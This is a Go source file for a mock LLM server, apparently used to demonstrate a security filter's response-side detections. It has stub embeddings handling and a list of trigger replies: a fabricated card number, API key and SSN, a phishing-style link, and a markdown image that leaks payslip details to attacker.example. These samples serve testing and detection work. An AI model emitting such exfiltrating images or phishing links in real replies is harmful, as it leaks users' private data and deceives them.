package mockllm

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"math"
)

// triggers are phrases a demo prompt can hold to get an answer that shows
// a response-side detection, without a header: what a newcomer tries
// first. Values are fabricated (the card passes Luhn, the key its format).
var triggers = []struct{ phrase, reply string }{
	{"sample credit card", "Here is a sample card for your test: 4539 3010 1967 3114, expiring 04/27."},
	{"sample api key", "Sure, use this key: AKIAQYLPMN5HHHFPZAM2 with the secret in your vault."},
	{"sample ssn", "The applicant's social security number is 752-52-8258."},
	{"sample phishing link", "Please confirm your account at https://login-verify-account.example/reset today."},
	{"sample tracking image", "Done. ![status](https://attacker.example/p.png?d=payslip+of+alice+net+4120+EUR)"},
}

// triggered returns the reply of the first trigger phrase in the request
// body, or "".
func triggered(body []byte) string {
	lower := bytes.ToLower(body)
	for _, t := range triggers {
		if bytes.Contains(lower, []byte(t.phrase)) {
			return t.reply
		}
	}
	return ""
}

// embeddingRequest reads how many inputs an embeddings request has and
// whether it asks for base64.
func embeddingRequest(body []byte) (inputs int, b64 bool) {
	var r struct {
		Input          json.RawMessage `json:"input"`
		EncodingFormat string          `json:"encoding_format"`
	}
	if json.Unmarshal(body, &r) != nil || len(r.Input) == 0 {
		return 1, false
	}
	var list []json.RawMessage
	if json.Unmarshal(r.Input, &list) == nil && len(list) > 0 {
		// A list of strings is several inputs; a list of token ids is one.
		if list[0][0] == '"' || list[0][0] == '[' {
			inputs = len(list)
		}
	}
	return max(inputs, 1), r.EncodingFormat == "base64"
}

// embeddingsWhole answers an embeddings request with one small vector an
// input, as floats or, when asked, as base64 of little-endian float32s.
func embeddingsWhole(p plan) []byte {
	vec := []float32{0.1, 0.2, 0.3}
	data := make([]any, max(p.embedInputs, 1))
	for i := range data {
		var emb any = vec
		if p.embedBase64 {
			b := make([]byte, 4*len(vec))
			for j, f := range vec {
				binary.LittleEndian.PutUint32(b[4*j:], math.Float32bits(f))
			}
			emb = base64.StdEncoding.EncodeToString(b)
		}
		data[i] = map[string]any{"object": "embedding", "index": i, "embedding": emb}
	}
	return []byte(js(map[string]any{"object": "list", "data": data, "model": "mock-embed",
		"usage": map[string]any{"prompt_tokens": 3, "total_tokens": 3}}))
}
